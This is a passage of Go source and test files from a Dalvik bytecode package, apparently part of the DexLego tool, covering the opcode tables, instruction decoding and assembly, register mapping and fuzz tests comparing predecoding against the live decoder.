		for _, l := range it.labels {
			if _, dup := pcOf[l]; dup {
				return nil, nil, fmt.Errorf("bytecode: asm: duplicate label %q", l)
			}
			pcOf[l] = pc
		}
		if !it.present {
			continue
		}
		placed = append(placed, placedItem{pc, it})
		pc += it.inst.Width()
	}
	bodyLen := pc

	// Second pass: place switch payloads after the body, 4-byte aligned.
	payloadPC := make([]int, len(placed))
	for i, p := range placed {
		if !p.it.inst.Op.IsSwitch() {
			continue
		}
		if pc%2 != 0 {
			pc++ // nop pad
		}
		payloadPC[i] = pc
		pc += p.it.inst.PayloadWidth()
	}

	out := make([]uint16, 0, pc)
	emitTo := func(want int) {
		for len(out) < want {
			out = append(out, uint16(OpNop))
		}
	}
	resolve := func(label string, at int) (int32, error) {
		t, ok := pcOf[label]
		if !ok {
			return 0, fmt.Errorf("bytecode: asm: undefined label %q", label)
		}
		return int32(t - at), nil
	}
	for i, p := range placed {
		in := p.it.inst
		if p.it.branch != "" {
			off, err := resolve(p.it.branch, p.pc)
			if err != nil {
				return nil, nil, err
			}
			in.Off = off
		}
		if len(p.it.targets) > 0 {
			in.Targets = make([]int32, len(p.it.targets))
			for j, l := range p.it.targets {
				off, err := resolve(l, p.pc)
				if err != nil {
					return nil, nil, err
				}
				in.Targets[j] = off
			}
			in.Off = int32(payloadPC[i] - p.pc)
		}
		units, err := Encode(in)
		if err != nil {
			return nil, nil, err
		}
		emitTo(p.pc)
		out = append(out, units...)
	}
	emitTo(bodyLen)
	for i, p := range placed {
		if !p.it.inst.Op.IsSwitch() {
			continue
		}
		in := p.it.inst
		in.Targets = make([]int32, len(p.it.targets))
		for j, l := range p.it.targets {
			off, err := resolve(l, p.pc)
			if err != nil {
				return nil, nil, err
			}
			in.Targets[j] = off
		}
		payload, err := EncodePayload(in)
		if err != nil {
			return nil, nil, err
		}
		emitTo(payloadPC[i])
		out = append(out, payload...)
	}
	return out, pcOf, nil
}
