package bytecode

import (
	"testing"
)

// TestMaxRegisterMatchesMapRegisters checks the allocation-free register
// ceiling against the authoritative MapRegisters operand layout for every
// opcode and a spread of operand values.
func TestMaxRegisterMatchesMapRegisters(t *testing.T) {
	cases := []Inst{
		{Op: OpNop},
		{Op: OpReturnVoid},
		{Op: OpMove, A: 3, B: 7},
		{Op: OpMoveFrom16, A: 250, B: 9},
		{Op: OpMoveResult, A: 12},
		{Op: OpConst4, A: 5, Lit: -3},
		{Op: OpConst, A: 200, Lit: 1 << 30},
		{Op: OpConstString, A: 15, Index: 3},
		{Op: OpInstanceOf, A: 1, B: 14, Index: 2},
		{Op: OpAddInt, A: 9, B: 200, C: 3},
		{Op: OpAddIntLit8, A: 3, B: 254, Lit: 7},
		{Op: OpAddIntLit16, A: 13, B: 2, Lit: 1000},
		{Op: OpIfEq, A: 4, B: 11, Off: 5},
		{Op: OpIfEqz, A: 6, Off: -2},
		{Op: OpGoto, Off: 3},
		{Op: OpPackedSwitch, A: 8, Off: 4, Keys: []int32{0}, Targets: []int32{4}},
		{Op: OpInvokeVirtual, A: 3, Index: 1, Args: []int{5, 2, 9}},
		{Op: OpInvokeStaticR, A: 4, Index: 1, Args: []int{40, 41, 42, 43}},
		{Op: OpInvokeStatic, A: 0, Index: 1}, // zero-arg: no register operands
	}
	for _, in := range cases {
		want := int32(-1)
		MapRegisters(in, func(r int32) int32 {
			if r > want {
				want = r
			}
			return r
		})
		if got := MaxRegister(in); got != want {
			t.Errorf("MaxRegister(%s %+v) = %d, want %d", in.Op, in, got, want)
		}
	}
}

// checkPredecodeAgainstDecode verifies the core predecode contract on one
// unit array: the predecoder's linear scan must mirror a step-by-step
// bytecode.Decode walk exactly — same coverage, same (op, width, operands,
// max register) per pc — and stop at the first malformed instruction so the
// uncovered tail falls back to the live decoder.
func checkPredecodeAgainstDecode(t *testing.T, insns []uint16) {
	t.Helper()
	p := Predecode(insns)
	if got, want := p.Len(), len(insns); got != want {
		t.Fatalf("Program.Len() = %d, want %d", got, want)
	}
	if !p.Matches(insns) {
		t.Fatalf("Program does not match its own source units")
	}
	covered := make(map[int]bool)
	n := 0
	for pc := 0; pc < len(insns); {
		if w, ok := PayloadAt(insns, pc); ok {
			pc += w
			continue
		}
		in, width, err := Decode(insns, pc)
		if err != nil {
			break // predecode must leave this pc and everything after unmapped
		}
		d, ci := p.Lookup(pc)
		if d == nil {
			t.Fatalf("pc %d: Decode succeeds but Lookup returned nil", pc)
		}
		if ci != n {
			t.Fatalf("pc %d: instruction index %d, want %d", pc, ci, n)
		}
		if d.Width != width {
			t.Fatalf("pc %d: predecoded width %d, want %d", pc, d.Width, width)
		}
		if !d.Inst.Equal(in) {
			t.Fatalf("pc %d: predecoded %+v, want %+v", pc, d.Inst, in)
		}
		var want int32 = -1
		MapRegisters(in, func(r int32) int32 {
			if r > want {
				want = r
			}
			return r
		})
		if d.MaxReg != want {
			t.Fatalf("pc %d: predecoded MaxReg %d, want %d", pc, d.MaxReg, want)
		}
		covered[pc] = true
		n++
		pc += width
	}
	if p.NumInsts() != n {
		t.Fatalf("predecoded %d instructions, linear decode walk found %d", p.NumInsts(), n)
	}
	for pc := -2; pc < len(insns)+2; pc++ {
		d, _ := p.Lookup(pc)
		if (d != nil) != covered[pc] {
			t.Fatalf("pc %d: Lookup mapped=%v, decode walk covered=%v", pc, d != nil, covered[pc])
		}
	}
}

// FuzzPredecode feeds arbitrary unit arrays — valid streams, malformed
// tails, payload fragments — through both decoders and requires identical
// results, the equivalence that lets the interpreter swap the per-step
// Decode for predecoded lookups.
func FuzzPredecode(f *testing.F) {
	var asm Assembler
	asm.Const(0, 7)
	asm.Const(1, 3)
	asm.Binop(OpAddInt, 2, 0, 1)
	asm.IfZ(OpIfNez, 2, "done")
	asm.Nop()
	asm.Label("done")
	asm.Return(2)
	valid, err := asm.Assemble()
	if err != nil {
		f.Fatalf("assemble seed: %v", err)
	}
	f.Add(unitsToBytes(valid))
	f.Add(unitsToBytes([]uint16{0x0012, 0x000e}))
	f.Add(unitsToBytes([]uint16{0x012b, 0x0002, 0x0000, PackedSwitchPayloadIdent, 0x0001, 0x0000, 0x0003, 0x0000}))
	f.Add(unitsToBytes([]uint16{0x1a00}))         // const-string truncated
	f.Add(unitsToBytes([]uint16{0xffff, 0x000e})) // unknown opcode
	f.Add(unitsToBytes([]uint16{0x0100, 0x0002})) // bare payload ident
	f.Add([]byte{0x0e})                           // odd byte count
	f.Fuzz(func(t *testing.T, data []byte) {
		if len(data) > 4096 {
			t.Skip("oversized input")
		}
		insns := make([]uint16, len(data)/2)
		for i := range insns {
			insns[i] = uint16(data[2*i]) | uint16(data[2*i+1])<<8
		}
		checkPredecodeAgainstDecode(t, insns)
	})
}

func unitsToBytes(insns []uint16) []byte {
	out := make([]byte, 2*len(insns))
	for i, u := range insns {
		out[2*i] = byte(u)
		out[2*i+1] = byte(u >> 8)
	}
	return out
}

// TestProgramCacheContentKeyed checks that the cache keys by content, not
// slice identity: equal content hits regardless of backing array, and an
// in-place mutation misses instead of aliasing the stale program.
func TestProgramCacheContentKeyed(t *testing.T) {
	c := NewProgramCache()
	a := []uint16{0x0012, 0x000e} // const/4 v0,0; return-void
	p1, hit := c.Get(a)
	if hit {
		t.Fatal("first Get reported a hit")
	}
	b := append([]uint16(nil), a...)
	p2, hit := c.Get(b)
	if !hit || p2 != p1 {
		t.Fatalf("equal-content Get: hit=%v same=%v, want hit on the same program", hit, p2 == p1)
	}
	a[0] = 0x1012 // const/4 v0,1 — self-modification of the live array
	p3, hit := c.Get(a)
	if hit || p3 == p1 {
		t.Fatalf("mutated-content Get: hit=%v same=%v, want a fresh program", hit, p3 == p1)
	}
	if p1.Matches(a) {
		t.Fatal("stale program claims to match mutated units")
	}
	if c.Size() != 2 {
		t.Fatalf("cache size %d, want 2", c.Size())
	}
}
