// Package bytecode implements the subset of the Dalvik instruction set used
// by DexLego: opcode metadata, instruction decoding and encoding over 16-bit
// code-unit arrays, a label-based assembler, and a smali-style disassembler.
//
// Opcodes carry their real Dalvik numeric values and unit formats so that the
// code arrays produced here are laid out exactly like the arrays the ART
// interpreter walks with its dex_pc counter. Wide (64-bit register pair)
// opcodes, float arithmetic and the /2addr forms are intentionally out of
// scope; see DESIGN.md.
package bytecode

import "fmt"

// Opcode is a Dalvik opcode. The numeric values match the Dalvik
// Executable format specification.
type Opcode uint8

// Supported opcodes.
const (
	OpNop             Opcode = 0x00
	OpMove            Opcode = 0x01
	OpMoveFrom16      Opcode = 0x02
	OpMoveObject      Opcode = 0x07
	OpMoveObject16    Opcode = 0x08
	OpMoveResult      Opcode = 0x0a
	OpMoveResultObj   Opcode = 0x0c
	OpMoveException   Opcode = 0x0d
	OpReturnVoid      Opcode = 0x0e
	OpReturn          Opcode = 0x0f
	OpReturnObject    Opcode = 0x11
	OpConst4          Opcode = 0x12
	OpConst16         Opcode = 0x13
	OpConst           Opcode = 0x14
	OpConstHigh16     Opcode = 0x15
	OpConstString     Opcode = 0x1a
	OpConstClass      Opcode = 0x1c
	OpCheckCast       Opcode = 0x1f
	OpInstanceOf      Opcode = 0x20
	OpArrayLength     Opcode = 0x21
	OpNewInstance     Opcode = 0x22
	OpNewArray        Opcode = 0x23
	OpThrow           Opcode = 0x27
	OpGoto            Opcode = 0x28
	OpGoto16          Opcode = 0x29
	OpGoto32          Opcode = 0x2a
	OpPackedSwitch    Opcode = 0x2b
	OpSparseSwitch    Opcode = 0x2c
	OpIfEq            Opcode = 0x32
	OpIfNe            Opcode = 0x33
	OpIfLt            Opcode = 0x34
	OpIfGe            Opcode = 0x35
	OpIfGt            Opcode = 0x36
	OpIfLe            Opcode = 0x37
	OpIfEqz           Opcode = 0x38
	OpIfNez           Opcode = 0x39
	OpIfLtz           Opcode = 0x3a
	OpIfGez           Opcode = 0x3b
	OpIfGtz           Opcode = 0x3c
	OpIfLez           Opcode = 0x3d
	OpAGet            Opcode = 0x44
	OpAGetObject      Opcode = 0x46
	OpAPut            Opcode = 0x4b
	OpAPutObject      Opcode = 0x4d
	OpIGet            Opcode = 0x52
	OpIGetObject      Opcode = 0x54
	OpIGetBoolean     Opcode = 0x55
	OpIPut            Opcode = 0x59
	OpIPutObject      Opcode = 0x5b
	OpIPutBoolean     Opcode = 0x5c
	OpSGet            Opcode = 0x60
	OpSGetObject      Opcode = 0x62
	OpSGetBoolean     Opcode = 0x63
	OpSPut            Opcode = 0x67
	OpSPutObject      Opcode = 0x69
	OpSPutBoolean     Opcode = 0x6a
	OpInvokeVirtual   Opcode = 0x6e
	OpInvokeSuper     Opcode = 0x6f
	OpInvokeDirect    Opcode = 0x70
	OpInvokeStatic    Opcode = 0x71
	OpInvokeInterface Opcode = 0x72
	OpInvokeVirtualR  Opcode = 0x74
	OpInvokeSuperR    Opcode = 0x75
	OpInvokeDirectR   Opcode = 0x76
	OpInvokeStaticR   Opcode = 0x77
	OpInvokeInterR    Opcode = 0x78
	OpNegInt          Opcode = 0x7b
	OpNotInt          Opcode = 0x7c
	OpAddInt          Opcode = 0x90
	OpSubInt          Opcode = 0x91
	OpMulInt          Opcode = 0x92
	OpDivInt          Opcode = 0x93
	OpRemInt          Opcode = 0x94
	OpAndInt          Opcode = 0x95
	OpOrInt           Opcode = 0x96
	OpXorInt          Opcode = 0x97
	OpShlInt          Opcode = 0x98
	OpShrInt          Opcode = 0x99
	OpUshrInt         Opcode = 0x9a
	OpAddIntLit16     Opcode = 0xd0
	OpAddIntLit8      Opcode = 0xd8
	OpRsubIntLit8     Opcode = 0xd9
	OpMulIntLit8      Opcode = 0xda
	OpDivIntLit8      Opcode = 0xdb
	OpRemIntLit8      Opcode = 0xdc
	OpAndIntLit8      Opcode = 0xdd
	OpOrIntLit8       Opcode = 0xde
	OpXorIntLit8      Opcode = 0xdf
	OpShlIntLit8      Opcode = 0xe0
	OpShrIntLit8      Opcode = 0xe1
)

// Format identifies the bit layout of an instruction. Names follow the
// Dalvik instruction-format specification (e.g. Fmt21c = two units, one
// register, one constant-pool index).
type Format uint8

// Instruction formats used by the supported opcodes.
const (
	Fmt10x Format = iota + 1
	Fmt12x
	Fmt11n
	Fmt11x
	Fmt10t
	Fmt20t
	Fmt22x
	Fmt21t
	Fmt21s
	Fmt21h
	Fmt21c
	Fmt23x
	Fmt22b
	Fmt22t
	Fmt22s
	Fmt22c
	Fmt30t
	Fmt31i
	Fmt31t
	Fmt35c
	Fmt3rc
)

// Width returns the fixed instruction width of a format in 16-bit units.
func (f Format) Width() int {
	switch f {
	case Fmt10x, Fmt12x, Fmt11n, Fmt11x, Fmt10t:
		return 1
	case Fmt20t, Fmt22x, Fmt21t, Fmt21s, Fmt21h, Fmt21c, Fmt23x, Fmt22b,
		Fmt22t, Fmt22s, Fmt22c:
		return 2
	case Fmt30t, Fmt31i, Fmt31t, Fmt35c, Fmt3rc:
		return 3
	default:
		return 0
	}
}

// IndexKind classifies the constant-pool table referenced by an
// instruction's index operand.
type IndexKind uint8

// Index kinds.
const (
	IndexNone IndexKind = iota
	IndexString
	IndexType
	IndexField
	IndexMethod
)

type opcodeInfo struct {
	name   string
	format Format
	index  IndexKind
}

var opcodeTable = map[Opcode]opcodeInfo{
	OpNop:             {"nop", Fmt10x, IndexNone},
	OpMove:            {"move", Fmt12x, IndexNone},
	OpMoveFrom16:      {"move/from16", Fmt22x, IndexNone},
	OpMoveObject:      {"move-object", Fmt12x, IndexNone},
	OpMoveObject16:    {"move-object/from16", Fmt22x, IndexNone},
	OpMoveResult:      {"move-result", Fmt11x, IndexNone},
	OpMoveResultObj:   {"move-result-object", Fmt11x, IndexNone},
	OpMoveException:   {"move-exception", Fmt11x, IndexNone},
	OpReturnVoid:      {"return-void", Fmt10x, IndexNone},
	OpReturn:          {"return", Fmt11x, IndexNone},
	OpReturnObject:    {"return-object", Fmt11x, IndexNone},
	OpConst4:          {"const/4", Fmt11n, IndexNone},
	OpConst16:         {"const/16", Fmt21s, IndexNone},
	OpConst:           {"const", Fmt31i, IndexNone},
	OpConstHigh16:     {"const/high16", Fmt21h, IndexNone},
	OpConstString:     {"const-string", Fmt21c, IndexString},
	OpConstClass:      {"const-class", Fmt21c, IndexType},
	OpCheckCast:       {"check-cast", Fmt21c, IndexType},
	OpInstanceOf:      {"instance-of", Fmt22c, IndexType},
	OpArrayLength:     {"array-length", Fmt12x, IndexNone},
	OpNewInstance:     {"new-instance", Fmt21c, IndexType},
	OpNewArray:        {"new-array", Fmt22c, IndexType},
	OpThrow:           {"throw", Fmt11x, IndexNone},
	OpGoto:            {"goto", Fmt10t, IndexNone},
	OpGoto16:          {"goto/16", Fmt20t, IndexNone},
	OpGoto32:          {"goto/32", Fmt30t, IndexNone},
	OpPackedSwitch:    {"packed-switch", Fmt31t, IndexNone},
	OpSparseSwitch:    {"sparse-switch", Fmt31t, IndexNone},
	OpIfEq:            {"if-eq", Fmt22t, IndexNone},
	OpIfNe:            {"if-ne", Fmt22t, IndexNone},
	OpIfLt:            {"if-lt", Fmt22t, IndexNone},
	OpIfGe:            {"if-ge", Fmt22t, IndexNone},
	OpIfGt:            {"if-gt", Fmt22t, IndexNone},
	OpIfLe:            {"if-le", Fmt22t, IndexNone},
	OpIfEqz:           {"if-eqz", Fmt21t, IndexNone},
	OpIfNez:           {"if-nez", Fmt21t, IndexNone},
	OpIfLtz:           {"if-ltz", Fmt21t, IndexNone},
	OpIfGez:           {"if-gez", Fmt21t, IndexNone},
	OpIfGtz:           {"if-gtz", Fmt21t, IndexNone},
	OpIfLez:           {"if-lez", Fmt21t, IndexNone},
	OpAGet:            {"aget", Fmt23x, IndexNone},
	OpAGetObject:      {"aget-object", Fmt23x, IndexNone},
	OpAPut:            {"aput", Fmt23x, IndexNone},
	OpAPutObject:      {"aput-object", Fmt23x, IndexNone},
	OpIGet:            {"iget", Fmt22c, IndexField},
	OpIGetObject:      {"iget-object", Fmt22c, IndexField},
	OpIGetBoolean:     {"iget-boolean", Fmt22c, IndexField},
	OpIPut:            {"iput", Fmt22c, IndexField},
	OpIPutObject:      {"iput-object", Fmt22c, IndexField},
	OpIPutBoolean:     {"iput-boolean", Fmt22c, IndexField},
	OpSGet:            {"sget", Fmt21c, IndexField},
	OpSGetObject:      {"sget-object", Fmt21c, IndexField},
	OpSGetBoolean:     {"sget-boolean", Fmt21c, IndexField},
	OpSPut:            {"sput", Fmt21c, IndexField},
	OpSPutObject:      {"sput-object", Fmt21c, IndexField},
	OpSPutBoolean:     {"sput-boolean", Fmt21c, IndexField},
	OpInvokeVirtual:   {"invoke-virtual", Fmt35c, IndexMethod},
	OpInvokeSuper:     {"invoke-super", Fmt35c, IndexMethod},
	OpInvokeDirect:    {"invoke-direct", Fmt35c, IndexMethod},
	OpInvokeStatic:    {"invoke-static", Fmt35c, IndexMethod},
	OpInvokeInterface: {"invoke-interface", Fmt35c, IndexMethod},
	OpInvokeVirtualR:  {"invoke-virtual/range", Fmt3rc, IndexMethod},
	OpInvokeSuperR:    {"invoke-super/range", Fmt3rc, IndexMethod},
	OpInvokeDirectR:   {"invoke-direct/range", Fmt3rc, IndexMethod},
	OpInvokeStaticR:   {"invoke-static/range", Fmt3rc, IndexMethod},
	OpInvokeInterR:    {"invoke-interface/range", Fmt3rc, IndexMethod},
	OpNegInt:          {"neg-int", Fmt12x, IndexNone},
	OpNotInt:          {"not-int", Fmt12x, IndexNone},
	OpAddInt:          {"add-int", Fmt23x, IndexNone},
	OpSubInt:          {"sub-int", Fmt23x, IndexNone},
	OpMulInt:          {"mul-int", Fmt23x, IndexNone},
	OpDivInt:          {"div-int", Fmt23x, IndexNone},
	OpRemInt:          {"rem-int", Fmt23x, IndexNone},
	OpAndInt:          {"and-int", Fmt23x, IndexNone},
	OpOrInt:           {"or-int", Fmt23x, IndexNone},
	OpXorInt:          {"xor-int", Fmt23x, IndexNone},
	OpShlInt:          {"shl-int", Fmt23x, IndexNone},
	OpShrInt:          {"shr-int", Fmt23x, IndexNone},
	OpUshrInt:         {"ushr-int", Fmt23x, IndexNone},
	OpAddIntLit16:     {"add-int/lit16", Fmt22s, IndexNone},
	OpAddIntLit8:      {"add-int/lit8", Fmt22b, IndexNone},
	OpRsubIntLit8:     {"rsub-int/lit8", Fmt22b, IndexNone},
	OpMulIntLit8:      {"mul-int/lit8", Fmt22b, IndexNone},
	OpDivIntLit8:      {"div-int/lit8", Fmt22b, IndexNone},
	OpRemIntLit8:      {"rem-int/lit8", Fmt22b, IndexNone},
	OpAndIntLit8:      {"and-int/lit8", Fmt22b, IndexNone},
	OpOrIntLit8:       {"or-int/lit8", Fmt22b, IndexNone},
	OpXorIntLit8:      {"xor-int/lit8", Fmt22b, IndexNone},
	OpShlIntLit8:      {"shl-int/lit8", Fmt22b, IndexNone},
	OpShrIntLit8:      {"shr-int/lit8", Fmt22b, IndexNone},
}

// Valid reports whether op is a supported opcode.
func (op Opcode) Valid() bool {
	_, ok := opcodeTable[op]
	return ok
}

// String returns the smali mnemonic of the opcode.
func (op Opcode) String() string {
	if info, ok := opcodeTable[op]; ok {
		return info.name
	}
	return fmt.Sprintf("op-0x%02x", uint8(op))
}

// Format returns the instruction format of the opcode.
func (op Opcode) Format() Format {
	return opcodeTable[op].format
}

// Index returns the constant-pool kind referenced by the opcode's index
// operand, or IndexNone.
func (op Opcode) Index() IndexKind {
	return opcodeTable[op].index
}

// IsBranch reports whether op is a conditional branch (if-test or if-testz).
func (op Opcode) IsBranch() bool {
	return op >= OpIfEq && op <= OpIfLez
}

// IsGoto reports whether op is an unconditional goto.
func (op Opcode) IsGoto() bool {
	return op == OpGoto || op == OpGoto16 || op == OpGoto32
}

// IsSwitch reports whether op is a switch dispatch instruction.
func (op Opcode) IsSwitch() bool {
	return op == OpPackedSwitch || op == OpSparseSwitch
}

// IsInvoke reports whether op is any invoke variant.
func (op Opcode) IsInvoke() bool {
	return (op >= OpInvokeVirtual && op <= OpInvokeInterface) ||
		(op >= OpInvokeVirtualR && op <= OpInvokeInterR)
}

// IsReturn reports whether op leaves the method normally.
func (op Opcode) IsReturn() bool {
	return op == OpReturnVoid || op == OpReturn || op == OpReturnObject
}

// IsTerminator reports whether control never falls through op.
func (op Opcode) IsTerminator() bool {
	return op.IsReturn() || op.IsGoto() || op == OpThrow
}

// Opcodes returns all supported opcodes in ascending numeric order.
func Opcodes() []Opcode {
	ops := make([]Opcode, 0, len(opcodeTable))
	for op := range opcodeTable {
		ops = append(ops, op)
	}
	for i := 1; i < len(ops); i++ {
		for j := i; j > 0 && ops[j-1] > ops[j]; j-- {
			ops[j-1], ops[j] = ops[j], ops[j-1]
		}
	}
	return ops
}
