package bytecode

// MapRegisters returns a copy of in with every register operand transformed
// by f. Non-register fields (literals, indices, branch offsets) are left
// untouched. The reassembler uses this to open a scratch-register slot
// between a method's locals and its parameter window.
func MapRegisters(in Inst, f func(reg int32) int32) Inst {
	out := in.Clone()
	switch in.Op.Format() {
	case Fmt12x, Fmt22x, Fmt22b, Fmt22t, Fmt22s, Fmt22c:
		out.A = f(in.A)
		out.B = f(in.B)
	case Fmt11n, Fmt11x, Fmt21t, Fmt21s, Fmt21h, Fmt21c, Fmt31i, Fmt31t:
		out.A = f(in.A)
	case Fmt23x:
		out.A = f(in.A)
		out.B = f(in.B)
		out.C = f(in.C)
	case Fmt35c, Fmt3rc:
		for i, r := range in.Args {
			out.Args[i] = int(f(int32(r)))
		}
	}
	return out
}
