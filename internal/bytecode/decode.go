package bytecode

// Decode decodes the instruction starting at unit index pc of insns and
// returns it together with its width in units. Switch instructions have
// their payload tables resolved and inlined into the returned Inst.
func Decode(insns []uint16, pc int) (Inst, int, error) {
	if pc < 0 || pc >= len(insns) {
		return Inst{}, 0, &DecodeError{PC: pc, Reason: "pc out of bounds"}
	}
	unit := insns[pc]
	op := Opcode(unit & 0xff)
	hi := int32(unit >> 8)
	info, ok := opcodeTable[op]
	if !ok {
		return Inst{}, 0, &DecodeError{PC: pc, Reason: "unknown opcode " + op.String()}
	}
	w := info.format.Width()
	if pc+w > len(insns) {
		return Inst{}, 0, &DecodeError{PC: pc, Reason: "truncated instruction"}
	}
	in := Inst{Op: op}
	switch info.format {
	case Fmt10x:
		// Reject accidental decodes of payload data: payload idents share
		// the nop low byte.
		if op == OpNop && (unit == PackedSwitchPayloadIdent || unit == SparseSwitchPayloadIdent) {
			return Inst{}, 0, &DecodeError{PC: pc, Reason: "pc points into switch payload"}
		}
	case Fmt12x:
		in.A = hi & 0xf
		in.B = hi >> 4
	case Fmt11n:
		in.A = hi & 0xf
		in.Lit = int64(int8(hi>>4<<4) >> 4) // sign-extend 4-bit nibble
	case Fmt11x:
		in.A = hi
	case Fmt10t:
		in.Off = int32(int8(hi))
	case Fmt20t:
		in.Off = int32(int16(insns[pc+1]))
	case Fmt22x:
		in.A = hi
		in.B = int32(insns[pc+1])
	case Fmt21t:
		in.A = hi
		in.Off = int32(int16(insns[pc+1]))
	case Fmt21s:
		in.A = hi
		in.Lit = int64(int16(insns[pc+1]))
	case Fmt21h:
		in.A = hi
		in.Lit = int64(int16(insns[pc+1])) << 16
	case Fmt21c:
		in.A = hi
		in.Index = uint32(insns[pc+1])
	case Fmt23x:
		in.A = hi
		in.B = int32(insns[pc+1] & 0xff)
		in.C = int32(insns[pc+1] >> 8)
	case Fmt22b:
		in.A = hi
		in.B = int32(insns[pc+1] & 0xff)
		in.Lit = int64(int8(insns[pc+1] >> 8))
	case Fmt22t:
		in.A = hi & 0xf
		in.B = hi >> 4
		in.Off = int32(int16(insns[pc+1]))
	case Fmt22s:
		in.A = hi & 0xf
		in.B = hi >> 4
		in.Lit = int64(int16(insns[pc+1]))
	case Fmt22c:
		in.A = hi & 0xf
		in.B = hi >> 4
		in.Index = uint32(insns[pc+1])
	case Fmt30t:
		in.Off = int32(uint32(insns[pc+1]) | uint32(insns[pc+2])<<16)
	case Fmt31i:
		in.Lit = int64(int32(uint32(insns[pc+1]) | uint32(insns[pc+2])<<16))
		in.A = hi
	case Fmt31t:
		in.A = hi
		in.Off = int32(uint32(insns[pc+1]) | uint32(insns[pc+2])<<16)
		if err := decodeSwitchPayload(insns, pc, &in); err != nil {
			return Inst{}, 0, err
		}
	case Fmt35c:
		count := hi >> 4
		g := int(hi & 0xf)
		in.Index = uint32(insns[pc+1])
		regs := insns[pc+2]
		all := []int{
			int(regs & 0xf), int(regs >> 4 & 0xf),
			int(regs >> 8 & 0xf), int(regs >> 12 & 0xf), g,
		}
		if count > 5 {
			return Inst{}, 0, &DecodeError{PC: pc, Reason: "invoke arg count > 5"}
		}
		in.Args = all[:count]
		in.A = count
	case Fmt3rc:
		count := int(hi)
		in.Index = uint32(insns[pc+1])
		start := int(insns[pc+2])
		in.Args = make([]int, count)
		for i := range in.Args {
			in.Args[i] = start + i
		}
		in.A = int32(count)
	default:
		return Inst{}, 0, &DecodeError{PC: pc, Reason: "unhandled format"}
	}
	return in, w, nil
}

func decodeSwitchPayload(insns []uint16, pc int, in *Inst) error {
	ppc := pc + int(in.Off)
	if ppc < 0 || ppc+2 > len(insns) {
		return &DecodeError{PC: pc, Reason: "switch payload offset out of bounds"}
	}
	switch in.Op {
	case OpPackedSwitch:
		if insns[ppc] != PackedSwitchPayloadIdent {
			return &DecodeError{PC: pc, Reason: "bad packed-switch payload ident"}
		}
		size := int(insns[ppc+1])
		if ppc+4+2*size > len(insns) {
			return &DecodeError{PC: pc, Reason: "truncated packed-switch payload"}
		}
		firstKey := int32(uint32(insns[ppc+2]) | uint32(insns[ppc+3])<<16)
		in.Keys = make([]int32, size)
		in.Targets = make([]int32, size)
		for i := 0; i < size; i++ {
			in.Keys[i] = firstKey + int32(i)
			in.Targets[i] = int32(uint32(insns[ppc+4+2*i]) | uint32(insns[ppc+5+2*i])<<16)
		}
	case OpSparseSwitch:
		if insns[ppc] != SparseSwitchPayloadIdent {
			return &DecodeError{PC: pc, Reason: "bad sparse-switch payload ident"}
		}
		size := int(insns[ppc+1])
		if ppc+2+4*size > len(insns) {
			return &DecodeError{PC: pc, Reason: "truncated sparse-switch payload"}
		}
		in.Keys = make([]int32, size)
		in.Targets = make([]int32, size)
		for i := 0; i < size; i++ {
			in.Keys[i] = int32(uint32(insns[ppc+2+2*i]) | uint32(insns[ppc+3+2*i])<<16)
		}
		base := ppc + 2 + 2*size
		for i := 0; i < size; i++ {
			in.Targets[i] = int32(uint32(insns[base+2*i]) | uint32(insns[base+1+2*i])<<16)
		}
	}
	return nil
}

// DecodeAll decodes every reachable-by-linear-scan instruction of a method
// body, skipping switch payload regions, and returns the instructions keyed
// by their dex_pc in ascending order.
func DecodeAll(insns []uint16) ([]Placed, error) {
	var out []Placed
	pc := 0
	for pc < len(insns) {
		if w, ok := PayloadAt(insns, pc); ok {
			pc += w
			continue
		}
		in, w, err := Decode(insns, pc)
		if err != nil {
			return nil, err
		}
		out = append(out, Placed{PC: pc, Inst: in})
		pc += w
	}
	return out, nil
}

// Placed is an instruction together with the dex_pc it was decoded from.
type Placed struct {
	PC   int
	Inst Inst
}
