package bytecode

import "fmt"

// Payload identifier units. A payload pseudo-instruction starts with one of
// these units; its low byte is 0x00 (nop), which is how linear scanners that
// accidentally reach a payload survive in real ART.
const (
	PackedSwitchPayloadIdent uint16 = 0x0100
	SparseSwitchPayloadIdent uint16 = 0x0200
)

// Inst is one decoded Dalvik instruction.
//
// Register operands live in A, B and C following the format field names
// (vA, vB, vC). Literal operands are in Lit, constant-pool indices in Index,
// and branch targets in Off as a unit offset relative to the address of this
// instruction. Invoke arguments are in Args. Switch instructions carry their
// payload case tables in Keys/Targets (targets relative to the switch
// opcode), so an Inst is self-contained and can be re-encoded elsewhere.
type Inst struct {
	Op      Opcode
	A, B, C int32
	Index   uint32
	Lit     int64
	Off     int32
	Args    []int
	Keys    []int32
	Targets []int32
}

// Width returns the width of the instruction in 16-bit code units, not
// counting any out-of-line switch payload.
func (in Inst) Width() int {
	return in.Op.Format().Width()
}

// PayloadWidth returns the number of units of the out-of-line payload for
// switch instructions, or 0. The case count comes from Keys when Targets
// are not yet resolved (assembly time) — the two always agree once encoded.
func (in Inst) PayloadWidth() int {
	n := len(in.Targets)
	if len(in.Keys) > n {
		n = len(in.Keys)
	}
	switch in.Op {
	case OpPackedSwitch:
		return 4 + 2*n
	case OpSparseSwitch:
		return 2 + 4*n
	default:
		return 0
	}
}

// Equal reports whether two instructions are identical, including operands
// and switch tables. It is the SameIns predicate of the paper's Algorithm 1.
func (in Inst) Equal(other Inst) bool {
	if in.Op != other.Op || in.A != other.A || in.B != other.B ||
		in.C != other.C || in.Index != other.Index || in.Lit != other.Lit ||
		in.Off != other.Off {
		return false
	}
	if len(in.Args) != len(other.Args) || len(in.Keys) != len(other.Keys) ||
		len(in.Targets) != len(other.Targets) {
		return false
	}
	for i, a := range in.Args {
		if a != other.Args[i] {
			return false
		}
	}
	for i, k := range in.Keys {
		if k != other.Keys[i] {
			return false
		}
	}
	for i, t := range in.Targets {
		if t != other.Targets[i] {
			return false
		}
	}
	return true
}

// Clone returns a deep copy of the instruction.
func (in Inst) Clone() Inst {
	out := in
	if in.Args != nil {
		out.Args = append([]int(nil), in.Args...)
	}
	if in.Keys != nil {
		out.Keys = append([]int32(nil), in.Keys...)
	}
	if in.Targets != nil {
		out.Targets = append([]int32(nil), in.Targets...)
	}
	return out
}

// BranchTargets returns all possible relative unit offsets control can jump
// to from this instruction (excluding fall-through): the single offset of
// gotos and if-tests, or every case target of a switch.
func (in Inst) BranchTargets() []int32 {
	switch {
	case in.Op.IsGoto(), in.Op.IsBranch():
		return []int32{in.Off}
	case in.Op.IsSwitch():
		return append([]int32(nil), in.Targets...)
	default:
		return nil
	}
}

func (in Inst) String() string {
	return disasmInst(in, nil)
}

// DecodeError describes a malformed instruction stream.
type DecodeError struct {
	PC     int
